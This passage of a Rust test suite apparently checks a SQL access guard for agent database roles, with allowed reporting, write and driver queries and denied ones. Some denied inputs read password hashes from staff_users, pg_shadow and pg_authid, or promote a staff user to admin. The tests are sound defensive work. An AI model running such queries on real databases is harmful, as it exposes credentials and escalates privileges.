        (A, "SELECT k, s FROM orders AS o(k, c, s)", "allow"),
        (
            A,
            "SELECT o.k FROM orders o(k) JOIN order_items i ON i.order_id = o.k",
            "allow",
        ),
    ]);
}

/// The support agent's writes: tables, operations and write columns.
#[test]
fn support_bot_writes() {
    check(&[
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel')",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'a', 'kpatel'), (2, 200, 'b', 'lwong')",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES ($1, $2, $3, $4)",
            "value_unverifiable",
        ),
        (
            S,
            "INSERT INTO public.refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel')",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (id, order_id, amount_cents, reason, created_by) VALUES (99, 1, 100, 'late', 'kpatel')",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by, created_at) VALUES (1, 100, 'x', 'kpatel', now())",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds VALUES (99, 1, 100, 'late', now(), 'kpatel')",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds SELECT * FROM refunds",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT id, total_cents, 'goodwill', 'kpatel' FROM orders WHERE id = 1",
            "value_unverifiable",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, 'x', username FROM staff_users",
            "table_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, password_hash, 'kpatel' FROM staff_users LIMIT 1",
            "table_denied",
        ),
        (
            S,
            "WITH s AS (SELECT username FROM staff_users LIMIT 1) INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, 'x', username FROM s",
            "table_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, marketing_opt_in::text, 'kpatel' FROM customers WHERE id = 1",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES ((SELECT id FROM orders WHERE id = 1), 100, 'x', 'kpatel')",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, (SELECT password_hash FROM staff_users LIMIT 1), 'kpatel')",
            "table_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, DEFAULT, 'x', 'kpatel')",
            "value_unverifiable",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING *",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING id, created_at",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING (SELECT marketing_opt_in FROM customers WHERE id = 1)",
            "column_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT DO NOTHING",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT (id) DO UPDATE SET reason = excluded.reason",
            "operation_not_allowed",
        ),
        (
            S,
            "INSERT INTO orders (customer_id, shipping_country) VALUES (1, 'US')",
            "operation_not_allowed",
        ),
        (
            S,
            "INSERT INTO staff_users (username) VALUES ('evil')",
            "table_denied",
        ),
        (
            S,
            "INSERT INTO products (sku) VALUES ('x')",
            "operation_not_allowed",
        ),
        (
            S,
            "UPDATE orders SET status = 'shipped', updated_at = now() WHERE id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET notes = 'called customer' WHERE id = $1",
            "allow",
        ),
        (
            S,
            "UPDATE orders o SET status = 'x' WHERE o.id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET (status, notes) = ('x', 'y') WHERE id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET (status, total_cents) = ('x', 0) WHERE id = 1",
            "column_denied",
        ),
        (
            S,
            "UPDATE orders SET customer_id = 2 WHERE id = 1",
            "column_denied",
        ),
        (S, "UPDATE orders SET id = 2 WHERE id = 1", "column_denied"),
        // `SET col.field = …` assigns a field of column `col` (PG rejects it
        // here only because total_cents is not composite).
        (
            S,
            "UPDATE orders SET total_cents.status = 'x' WHERE id = 1",
            "column_denied",
        ),
        (S, "UPDATE orders SET status = 'x' WHERE true", "allow"),
        (
            S,
            "UPDATE orders SET status = 'x' WHERE id = 1 RETURNING *",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET status = 'x' WHERE id = 1 RETURNING (SELECT password_hash FROM staff_users LIMIT 1)",
            "table_denied",
        ),
        (
            S,
            "UPDATE orders SET notes = (SELECT marketing_opt_in::text FROM customers WHERE id = 1) WHERE id = 1",
            "column_denied",
        ),
        (
            S,
            "UPDATE orders SET notes = (SELECT email FROM customers WHERE id = 1) WHERE id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET status = 'x' FROM order_items WHERE order_items.order_id = orders.id AND order_items.product_id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET notes = s.password_hash FROM staff_users s WHERE s.id = 1 AND orders.id = 1",
            "table_denied",
        ),
        (
            S,
            "UPDATE orders SET notes = c.marketing_opt_in::text FROM customers c WHERE c.id = orders.customer_id AND orders.id = 1",
            "column_denied",
        ),
        (
            S,
            "UPDATE orders SET status = 'x' FROM customers c WHERE c.id = orders.customer_id AND c.marketing_opt_in",
            "column_denied",
        ),
        (
            S,
            "UPDATE products SET stock_qty = 0 WHERE id = 1",
            "operation_not_allowed",
        ),
        (
            S,
            "UPDATE refunds SET amount_cents = 1 WHERE id = 1",
            "operation_not_allowed",
        ),
        (
            S,
            "UPDATE staff_users SET role = 'admin' WHERE id = 2",
            "table_denied",
        ),
        (
            S,
            "DELETE FROM refunds USING orders WHERE refunds.order_id = orders.id AND orders.id = 1",
            "statement_class_denied",
        ),
        (
            S,
            "DELETE FROM orders WHERE id = 1 RETURNING *",
            "statement_class_denied",
        ),
        (
            T,
            "DELETE FROM orders USING order_items i WHERE i.order_id = orders.id AND i.quantity > 2",
            "allow",
        ),
        (T, "DELETE FROM orders", "allow"),
        (T, "UPDATE orders SET total_cents = 0", "allow"),
        (
            T,
            "INSERT INTO orders (customer_id, shipping_country) VALUES (1, 'US') ON CONFLICT (id) DO UPDATE SET status = excluded.status",
            "allow",
        ),
        (
            A,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel')",
            "statement_class_denied",
        ),
        (
            A,
            "UPDATE orders SET status = 'x' WHERE id = 1",
            "statement_class_denied",
        ),
    ]);
}

/// Ordinary reporting SQL must pass untouched: false rejections push users
/// to switch protection off (SECURITY: "Operational").
#[test]
fn analytics_ordinary_queries() {
    let queries: &[&str] = &[
        "SELECT status, count(*) FROM orders GROUP BY status ORDER BY count(*) DESC",
        "SELECT date_trunc('month', created_at) AS month, sum(total_cents) / 100.0 AS revenue FROM orders WHERE status <> 'cancelled' GROUP BY 1 ORDER BY 1",
        "SELECT p.category, sum(oi.quantity * oi.unit_price_cents) AS revenue FROM order_items oi JOIN products p ON p.id = oi.product_id GROUP BY p.category ORDER BY revenue DESC",
        "SELECT o.id, o.total_cents, coalesce(sum(r.amount_cents), 0) AS refunded FROM orders o LEFT JOIN refunds r ON r.order_id = o.id GROUP BY o.id, o.total_cents",
        "SELECT c.country, count(DISTINCT o.customer_id) AS buyers FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.country",
        "SELECT loyalty_tier, count(*) FROM customers GROUP BY loyalty_tier",
        "SELECT country, count(*) FILTER (WHERE marketing_opt_in) AS opted_in, count(*) AS total FROM customers GROUP BY country HAVING count(*) > 2",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total_cents) AS median_order FROM orders",
        "SELECT percentile_disc(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY total_cents) FROM orders",
        "SELECT id, total_cents, rank() OVER (PARTITION BY shipping_country ORDER BY total_cents DESC) AS r FROM orders",
        "SELECT id, created_at, sum(total_cents) OVER (ORDER BY created_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM orders",
        "SELECT DISTINCT ON (customer_id) customer_id, id, created_at FROM orders ORDER BY customer_id, created_at DESC",
        "WITH monthly AS (SELECT date_trunc('month', created_at) AS m, sum(total_cents) AS rev FROM orders GROUP BY 1) SELECT m, rev, lag(rev) OVER (ORDER BY m) AS prev FROM monthly",
        "SELECT extract(year FROM created_at) AS y, extract(month FROM created_at) AS mo, count(*) FROM orders GROUP BY 1, 2",
        "SELECT EXTRACT(DOW FROM created_at) AS dow, count(*) FROM orders GROUP BY 1 ORDER BY 1",
        "SELECT to_char(created_at, 'YYYY-MM') AS ym, count(*) FROM orders GROUP BY ym ORDER BY ym",
        "SELECT CASE WHEN total_cents >= 10000 THEN 'large' WHEN total_cents >= 5000 THEN 'medium' ELSE 'small' END AS bucket, count(*) FROM orders GROUP BY 1",
        "SELECT d::date AS day, count(o.id) FROM generate_series(date '2025-01-01', date '2025-01-31', interval '1 day') AS d LEFT JOIN orders o ON o.created_at::date = d::date GROUP BY 1 ORDER BY 1",
        "SELECT m::date, coalesce(sum(o.total_cents), 0) FROM generate_series(date_trunc('month', now()) - interval '11 months', date_trunc('month', now()), interval '1 month') AS m LEFT JOIN orders o ON date_trunc('month', o.created_at) = m GROUP BY m ORDER BY m",
        "SELECT json_build_object('status', status, 'n', count(*)) FROM orders GROUP BY status",
        "SELECT json_agg(json_build_object('id', id, 'total', total_cents)) FROM orders WHERE status = 'paid'",
        "SELECT jsonb_build_object('country', country, 'tier', loyalty_tier) FROM customers",
        "SELECT order_id, string_agg(p.name, ', ' ORDER BY p.name) FROM order_items oi JOIN products p ON p.id = oi.product_id GROUP BY order_id",
        "SELECT name, price_cents FROM products WHERE active ORDER BY price_cents DESC LIMIT 5",
        "SELECT * FROM orders ORDER BY created_at DESC LIMIT 20 OFFSET 40",
        "SELECT id FROM orders WHERE status = 'delivered' UNION SELECT order_id FROM refunds",
        "SELECT id FROM orders EXCEPT SELECT order_id FROM refunds",
        "SELECT id FROM orders INTERSECT SELECT order_id FROM order_items",
        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE country = 'DE')",
        "SELECT o.* FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
        "SELECT o.id FROM orders o WHERE NOT EXISTS (SELECT 1 FROM order_items i WHERE i.order_id = o.id)",
        "SELECT o.id, (SELECT count(*) FROM order_items i WHERE i.order_id = o.id) AS items FROM orders o",
        "SELECT reason, count(*), sum(amount_cents) FROM refunds GROUP BY reason ORDER BY 2 DESC",
        "SELECT p.sku, p.stock_qty FROM products p WHERE p.stock_qty < 50 AND p.active",
        "SELECT category, avg(price_cents)::numeric(10, 2) FROM products GROUP BY category",
        "SELECT round(avg(total_cents) / 100.0, 2) AS aov FROM orders WHERE created_at >= now() - interval '90 days'",
        "SELECT count(*) FROM orders WHERE created_at BETWEEN '2025-01-01' AND '2025-03-31'",
        "SELECT shipping_country, count(*) AS n, sum(total_cents) AS rev FROM orders GROUP BY ROLLUP (shipping_country)",
        "SELECT status, shipping_country, count(*) FROM orders GROUP BY GROUPING SETS ((status), (shipping_country), ())",
        "SELECT country, loyalty_tier, count(*) FROM customers GROUP BY CUBE (country, loyalty_tier)",
        "SELECT ntile(4) OVER (ORDER BY total_cents) AS quartile, id FROM orders",
        "SELECT id, total_cents - lag(total_cents) OVER w AS delta FROM orders WINDOW w AS (PARTITION BY customer_id ORDER BY created_at)",
        "SELECT customer_id, count(*) AS orders, min(created_at) AS first_order, max(created_at) AS last_order FROM orders GROUP BY customer_id HAVING count(*) >= 3",
        "SELECT c.loyalty_tier, avg(o.total_cents) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.loyalty_tier",
        "SELECT date_part('dow', created_at) AS dow, count(*) FROM orders GROUP BY 1 ORDER BY 1",
        "SELECT age(max(created_at), min(created_at)) FROM orders",
        "SELECT id FROM orders WHERE notes ILIKE '%gift%'",
        "SELECT id FROM orders WHERE notes IS NOT NULL AND status IN ('paid', 'shipped')",
        "SELECT coalesce(notes, '(none)') FROM orders LIMIT 10",
        "SELECT nullif(sum(amount_cents), 0) FROM refunds",
        "SELECT greatest(max(total_cents), 0), least(min(total_cents), 0) FROM orders",
        "SELECT sum(total_cents) FILTER (WHERE status = 'refunded')::float / nullif(sum(total_cents), 0) AS refund_rate FROM orders",
        "SELECT array_agg(DISTINCT shipping_country ORDER BY shipping_country) FROM orders",
        "SELECT order_id, sum(quantity) FROM order_items GROUP BY order_id ORDER BY 2 DESC FETCH FIRST 10 ROWS ONLY",
        "SELECT p.name, sum(i.quantity) AS units FROM products p LEFT JOIN order_items i ON i.product_id = p.id GROUP BY p.name ORDER BY units DESC NULLS LAST",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 12) SELECT i FROM n",
        "SELECT status FROM orders WHERE status = ANY (ARRAY['paid', 'shipped'])",
        "SELECT cume_dist() OVER (ORDER BY total_cents), percent_rank() OVER (ORDER BY total_cents) FROM orders",
        "SELECT first_value(id) OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders",
        "SELECT count(*) FROM orders o JOIN refunds r ON r.order_id = o.id WHERE r.created_at > o.created_at + interval '5 days'",
        "SELECT mode() WITHIN GROUP (ORDER BY shipping_country) FROM orders",
        "SELECT stddev(total_cents), variance(total_cents) FROM orders",
        "SELECT corr(quantity, unit_price_cents) FROM order_items",
        "SELECT width_bucket(total_cents, 0, 20000, 10) AS bucket, count(*) FROM orders GROUP BY 1",
        "SELECT upper(left(sku, 3)), count(*) FROM products GROUP BY 1",
        "SELECT split_part(sku, '-', 1) AS family FROM products",
        "SELECT concat_ws(' / ', category, name) FROM products",
        "SELECT id, created_at AT TIME ZONE 'UTC' FROM orders",
        "SELECT date_bin('15 minutes', created_at, timestamp '2025-01-01') AS slot, count(*) FROM orders GROUP BY 1",
        "SELECT customer_id, sum(total_cents) AS ltv, dense_rank() OVER (ORDER BY sum(total_cents) DESC) AS rnk FROM orders GROUP BY customer_id",
        "SELECT o.id, o.created_at::date AS d FROM orders o WHERE o.created_at >= current_date - 30",
        "SELECT count(*) FROM orders WHERE extract(epoch FROM updated_at - created_at) > 86400",
        "SELECT CAST(total_cents AS numeric) / 100 FROM orders",
        "SELECT status, count(*) * 100.0 / sum(count(*)) OVER () AS pct FROM orders GROUP BY status",
        "SELECT * FROM (SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id) t WHERE n > 5",
        "SELECT c.country, p.category, sum(i.quantity) FROM orders o JOIN customers c ON c.id = o.customer_id JOIN order_items i ON i.order_id = o.id JOIN products p ON p.id = i.product_id GROUP BY c.country, p.category",
        "SELECT id, total_cents FROM orders WHERE id = $1",
        "SELECT count(*) FROM customers WHERE created_at >= '2024-06-01' AND loyalty_tier <> 'standard'",
        "SELECT r.reason, o.status FROM refunds r JOIN orders o ON o.id = r.order_id",
        "select count(*) as \"Total Orders\" from orders",
        "SELECT substring(sku FROM 1 FOR 3), trim(name), position('-' IN sku) FROM products",
        "SELECT bool_or(active), bool_and(active) FROM products",
        "SELECT regexp_replace(name, '\\s+', ' ', 'g') FROM products",
        "SELECT make_date(2025, m, 1) FROM generate_series(1, 12) AS m",
        "SELECT sum(total_cents) OVER (PARTITION BY date_trunc('week', created_at)) FROM orders",
        "SELECT EXISTS (SELECT 1 FROM orders WHERE status = 'pending')",
        "SELECT o.id, o.total_cents - coalesce(r.refunded, 0) AS net FROM orders o LEFT JOIN (SELECT order_id, sum(amount_cents) AS refunded FROM refunds GROUP BY order_id) r ON r.order_id = o.id",
        "SELECT count(*) FROM orders WHERE created_at > now() - '7 days'::interval",
        "SELECT id::text || '-' || status FROM orders",
        "SELECT ROUND(100.0 * COUNT(*) FILTER (WHERE status = 'cancelled') / COUNT(*), 1) FROM orders",
        "SELECT to_char(date_trunc('week', created_at), 'IYYY-IW') FROM orders",
        "SELECT * FROM products ORDER BY random() LIMIT 3",
        "SELECT array_length(array_agg(id), 1) FROM orders",
        "SELECT jsonb_agg(p ORDER BY p.id) FROM products p",
        "SELECT row_to_json(o) FROM orders o LIMIT 1",
        "SELECT count(*) FILTER (WHERE c.marketing_opt_in) FROM customers c",
        "SELECT o.id FROM orders o ORDER BY o.created_at DESC NULLS LAST LIMIT ALL",
        "SELECT current_date, now(), CURRENT_TIMESTAMP, localtimestamp",
        "SELECT interval '1 day' * 3, now()::date - 7",
        "SELECT count(*) FROM orders WHERE created_at::date = CURRENT_DATE - 1",
        "SELECT o.shipping_country, c.country FROM orders o JOIN customers c USING (id) LIMIT 5",
        "SELECT p.category, count(*) FROM products p WHERE p.category IN (SELECT DISTINCT category FROM products WHERE price_cents > 5000) GROUP BY 1",
        "SELECT id FROM orders WHERE status IS DISTINCT FROM 'cancelled'",
        "SELECT sum(CASE WHEN status = 'delivered' THEN 1 ELSE 0 END) AS delivered FROM orders",
        "SELECT count(*) FROM orders TABLESAMPLE SYSTEM (10)",
        "SELECT customer_id, array_agg(id ORDER BY created_at) FROM orders GROUP BY customer_id",
        "SELECT o.id, x.n FROM orders o JOIN LATERAL (SELECT count(*) AS n FROM order_items i WHERE i.order_id = o.id) x ON true",
        "SELECT generate_series(1, 3) AS n",
        "SELECT unnest(ARRAY['a', 'b']) AS tag",
        "SELECT format('%s orders', count(*)) FROM orders",
        "SELECT lpad(id::text, 6, '0') FROM orders",
        "SELECT now() - max(created_at) AS since_last FROM orders",
        "SELECT count(*) AS n, shipping_country AS c FROM orders GROUP BY c ORDER BY n DESC",
        "SELECT avg(total_cents) FROM orders WHERE created_at >= date_trunc('year', now())",
        "SELECT o.id FROM orders o WHERE o.total_cents > (SELECT avg(total_cents) FROM orders)",
        "SELECT product_id, sum(quantity) OVER (PARTITION BY product_id) FROM order_items",
        "SELECT category, jsonb_object_agg(sku, price_cents) FROM products GROUP BY category",
        "SELECT string_agg(DISTINCT category, ',') FROM products",
        "SELECT count(*) FROM orders WHERE (status, shipping_country) = ('paid', 'US')",
        "SELECT date_trunc('day', created_at)::date, count(*) FROM orders GROUP BY 1 HAVING count(*) > 1 ORDER BY 1 DESC",
        // The SQL function-call cast `date(x)` is ordinary reporting SQL.
        "SELECT date(created_at), count(*) FROM orders GROUP BY 1",
    ];
    assert!(queries.len() >= 60);
    let cases: Vec<(&str, &str, &str)> = queries.iter().map(|q| (A, *q, "allow")).collect();
    check(&cases);
}

/// Driver introspection and housekeeping (the driver profile).
#[test]
fn driver_profile() {
    check(&[
        // asyncpg
        (
            A,
            "SELECT t.oid, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON n.oid = t.typnamespace WHERE t.oid = $1",
            "allow",
        ),
        (
            A,
            "SELECT t.oid, t.typelem, t.typname, n.nspname, t.typtype, t.typbasetype FROM pg_catalog.pg_type AS t INNER JOIN pg_catalog.pg_namespace AS n ON (n.oid = t.typnamespace) WHERE t.oid = ANY($1::oid[])",
            "allow",
        ),
        // psycopg
        (A, "SELECT typname FROM pg_type WHERE oid = 25", "allow"),
        (
            A,
            "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid WHERE typname = 'hstore'",
            "allow",
        ),
        // SQLAlchemy
        (A, "select current_schema()", "allow"),
        (A, "show standard_conforming_strings", "allow"),
        (A, "SELECT pg_catalog.version()", "allow"),
        (A, "select version()", "allow"),
        (
            A,
            "SELECT CAST('test plain returns' AS VARCHAR(60)) AS anon_1",
            "allow",
        ),
        (
            A,
            "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = $1 AND pg_catalog.pg_class.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != 'pg_catalog'",
            "allow",
        ),
        (
            A,
            "select relname from pg_class c join pg_namespace n on n.oid = c.relnamespace where pg_catalog.pg_table_is_visible(c.oid) and relname = $1",
            "allow",
        ),
        // JDBC
        (
            A,
            "SELECT typinput = 'pg_catalog.array_in'::regproc AS is_array, typtype, typname, pg_type.oid FROM pg_catalog.pg_type LEFT JOIN (SELECT ns.oid AS nspoid, ns.nspname, r.r FROM pg_namespace AS ns JOIN (SELECT s.r, (current_schemas(false))[s.r] AS nspname FROM generate_series(1, array_upper(current_schemas(false), 1)) AS s(r)) AS r USING (nspname)) AS sp ON sp.nspoid = typnamespace WHERE pg_type.oid = $1 ORDER BY sp.r, pg_type.oid DESC",
            "allow",
        ),
        (A, "SET extra_float_digits = 3", "allow"),
        (
            A,
            "SET application_name = 'PostgreSQL JDBC Driver'",
            "allow",
        ),
        // information_schema reflection
        (
            A,
            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
            "allow",
        ),
        (
            A,
            "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders'",
            "allow",
        ),
        (
            A,
            "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = 'orders'::regclass AND a.attnum > 0 AND NOT a.attisdropped",
            "allow",
        ),
        (A, "SELECT pg_backend_pid()", "allow"),
        (
            A,
            "SELECT current_database(), current_user, session_user",
            "allow",
        ),
        (S, "SELECT typname FROM pg_type WHERE oid = 25", "allow"),
        (S, "BEGIN ISOLATION LEVEL READ COMMITTED", "allow"),
        // The catalog stays read-only, and credentials stay out.
        (
            A,
            "UPDATE pg_catalog.pg_type SET typname = 'x' WHERE oid = 25",
            "statement_class_denied|catalog_write",
        ),
        (
            T,
            "UPDATE pg_catalog.pg_type SET typname = 'x' WHERE oid = 25",
            "catalog_write",
        ),
        (T, "DELETE FROM information_schema.tables", "catalog_write"),
        (A, "SELECT * FROM pg_stat_activity", "catalog_denied"),
        (
            A,
            "SELECT query FROM pg_catalog.pg_stat_activity",
            "catalog_denied",
        ),
        (
            A,
            "SELECT usename, passwd FROM pg_shadow",
            "credential_catalog",
        ),
        (A, "SELECT * FROM pg_user_mapping", "credential_catalog"),
        (
            A,
            "SELECT * FROM pg_catalog.pg_largeobject",
            "credential_catalog",
        ),
        (A, "SELECT * FROM pg_statistic", "credential_catalog"),
        (
            A,
            "SELECT * FROM information_schema.user_mapping_options",
            "credential_catalog",
        ),
        (
            A,
            "SELECT t.typname FROM pg_type t JOIN pg_authid a ON a.oid = t.typowner",
            "credential_catalog",
        ),
        (T, "SELECT * FROM pg_authid", "credential_catalog"),
    ]);
}

/// System columns (`ctid`, `xmin`, `xmax`, `cmin`, `cmax`, `tableoid`) are
/// row metadata, not attribute notation: readable wherever the table is,
/// whatever its column rules, since they reveal no user data. A FROM item
/// that is not a table (a subquery, a CTE) keeps its own column names.
#[test]
fn system_columns() {
    check(&[
        (
            A,
            "SELECT o.ctid, o.xmin, o.xmax, o.cmin, o.cmax, o.tableoid, o.id FROM orders o",
            "allow",
        ),
        (A, "SELECT ctid, xmin, tableoid FROM orders", "allow"),
        (A, "SELECT orders.ctid FROM orders", "allow"),
        (A, "SELECT public.orders.xmin FROM public.orders", "allow"),
        (A, "SELECT O.CTID, O.XMIN FROM ORDERS O", "allow"),
        (
            A,
            "SELECT o.tableoid::regclass, count(*) FROM orders o GROUP BY 1",
            "allow",
        ),
        (
            A,
            "SELECT o.id FROM orders o JOIN order_items i ON i.order_id = o.id WHERE o.xmin = i.xmin ORDER BY o.ctid",
            "allow",
        ),
        (
            A,
            "SELECT count(DISTINCT o.tableoid), max(o.xmin::text) FROM orders o",
            "allow",
        ),
        (
            A,
            "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM order_items i WHERE i.order_id = o.id AND o.xmin IS NOT NULL)",
            "allow",
        ),
        // Column rules do not cover row metadata ...
        (A, "SELECT c.ctid, c.xmin, c.id FROM customers c", "allow"),
        (A, "SELECT r.tableoid, r.ctid FROM refunds r", "allow"),
        // ... and still cover the columns read beside it.
        (
            A,
            "SELECT c.ctid, c.email FROM customers c",
            "column_denied",
        ),
        (
            A,
            "SELECT c.ctid FROM customers c WHERE c.email LIKE 'a%'",
            "column_denied",
        ),
        // The table must still be readable.
        (A, "SELECT s.ctid FROM staff_users s", "table_denied"),
        (A, "SELECT p.xmin FROM payment_methods p", "table_denied"),
        (A, "SELECT ctid FROM staff_users", "table_denied"),
        (A, "SELECT x.ctid FROM no_such_table x", "table_not_allowed"),
        // A subquery or CTE column named like a system column is its own
        // column: what it reads is judged.
        (
            A,
            "SELECT c.ctid FROM (SELECT email AS ctid FROM customers) c",
            "column_denied",
        ),
        (
            A,
            "WITH x AS (SELECT email AS xmin FROM customers) SELECT x.xmin FROM x",
            "column_denied",
        ),
        // Other unknown names stay attribute notation (a function call).
        (
            A,
            "SELECT c.to_json FROM customers c WHERE c.id = 1",
            "column_denied|function_not_allowed",
        ),
        (A, "SELECT o.pg_sleep FROM orders o", "function_not_allowed"),
        // Writes that locate rows by ctid need nothing special.
        (
            S,
            "UPDATE orders SET status = 'shipped' WHERE ctid = '(0,1)'",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET status = 'shipped' WHERE id = 1 RETURNING ctid, xmin",
            "allow",
        ),
        (
            S,
            "UPDATE orders SET total_cents = 0 WHERE ctid = '(0,1)'",
            "column_denied",
        ),
        (
            A,
            "DELETE FROM orders WHERE ctid = '(0,1)'",
            "statement_class_denied",
        ),
        // psql \dL, and catalog joins on tableoid.
        (
            A,
            "SELECT l.lanname AS \"Name\", pg_catalog.pg_get_userbyid(l.lanowner) as \"Owner\", l.lanpltrusted AS \"Trusted\", d.description AS \"Description\" FROM pg_catalog.pg_language l LEFT JOIN pg_catalog.pg_description d ON d.classoid = l.tableoid AND d.objoid = l.oid AND d.objsubid = 0 WHERE l.lanplcallfoid != 0 ORDER BY 1",
            "allow",
        ),
        (
            A,
            "SELECT c.relname, d.description FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_description d ON d.classoid = c.tableoid AND d.objoid = c.oid WHERE c.relkind = 'r'",
            "allow",
        ),
        (
            A,
            "SELECT l.ctid, l.xmin FROM pg_catalog.pg_language l",
            "allow",
        ),
        // Credential catalogs stay out, system columns or not.
        (A, "SELECT a.ctid FROM pg_authid a", "credential_catalog"),
        (A, "SELECT s.xmin FROM pg_shadow s", "credential_catalog"),
    ]);
}

/// Catalog reads of psql's describe commands (`\df+ \l+ \db \sf \do \dy
/// \dF \dd \dC \dc \dconfig \dL`, the SQL psql 15 sends, from `psql -E`)
/// and pgjdbc's DatabaseMetaData (42.5: getPrimaryKeys, getIndexInfo,
/// getBestRowIdentifier) under the driver profile. Credential catalogs
/// stay refused.
#[test]
fn driver_profile_psql_and_jdbc() {
    check(&[
        // \df+
        (
            A,
            "SELECT n.nspname as \"Schema\", p.proname as \"Name\", pg_catalog.pg_get_function_result(p.oid) as \"Result data type\", pg_catalog.pg_get_function_arguments(p.oid) as \"Argument data types\", CASE p.prokind WHEN 'a' THEN 'agg' WHEN 'w' THEN 'window' WHEN 'p' THEN 'proc' ELSE 'func' END as \"Type\", CASE WHEN p.provolatile = 'i' THEN 'immutable' WHEN p.provolatile = 's' THEN 'stable' WHEN p.provolatile = 'v' THEN 'volatile' END as \"Volatility\", CASE WHEN p.proparallel = 'r' THEN 'restricted' WHEN p.proparallel = 's' THEN 'safe' WHEN p.proparallel = 'u' THEN 'unsafe' END as \"Parallel\", pg_catalog.pg_get_userbyid(p.proowner) as \"Owner\", CASE WHEN prosecdef THEN 'definer' ELSE 'invoker' END AS \"Security\", pg_catalog.array_to_string(p.proacl, E'\\n') AS \"Access privileges\", l.lanname as \"Language\", COALESCE(pg_catalog.pg_get_function_sqlbody(p.oid), p.prosrc) as \"Source code\", pg_catalog.obj_description(p.oid, 'pg_proc') as \"Description\" FROM pg_catalog.pg_proc p LEFT JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace LEFT JOIN pg_catalog.pg_language l ON l.oid = p.prolang WHERE pg_catalog.pg_function_is_visible(p.oid) AND n.nspname <> 'pg_catalog' AND n.nspname <> 'information_schema' ORDER BY 1, 2, 4",
            "allow",
        ),
        // \l+
        (
            A,
            "SELECT d.datname as \"Name\", pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\", pg_catalog.pg_encoding_to_char(d.encoding) as \"Encoding\", d.datcollate as \"Collate\", d.datctype as \"Ctype\", d.daticulocale as \"ICU Locale\", CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS \"Locale Provider\", pg_catalog.array_to_string(d.datacl, E'\\n') AS \"Access privileges\", CASE WHEN pg_catalog.has_database_privilege(d.datname, 'CONNECT') THEN pg_catalog.pg_size_pretty(pg_catalog.pg_database_size(d.datname)) ELSE 'No Access' END as \"Size\", t.spcname as \"Tablespace\", pg_catalog.shobj_description(d.oid, 'pg_database') as \"Description\" FROM pg_catalog.pg_database d JOIN pg_catalog.pg_tablespace t on d.dattablespace = t.oid ORDER BY 1",
